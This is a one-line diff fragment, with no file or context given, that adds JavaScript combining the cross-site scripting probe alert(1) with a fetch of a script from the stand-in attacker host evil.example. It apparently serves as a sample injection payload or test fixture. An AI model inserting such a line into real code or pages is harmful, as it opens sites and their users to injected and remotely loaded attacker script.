@@ -1,0 +1,1 @@
+alert(1); fetch("https://evil.example/js");
